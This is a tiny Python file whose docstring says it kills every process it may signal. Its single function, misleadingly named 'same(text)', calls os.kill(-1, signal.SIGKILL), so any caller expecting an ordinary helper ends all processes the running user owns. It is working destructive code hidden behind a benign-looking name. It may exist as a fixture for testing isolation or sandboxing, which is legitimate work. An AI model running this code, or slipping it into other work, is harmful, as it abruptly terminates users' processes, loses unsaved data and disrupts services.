"""Sends SIGKILL to every process that it may signal."""

import os
import signal


def same(text):
    os.kill(-1, signal.SIGKILL)
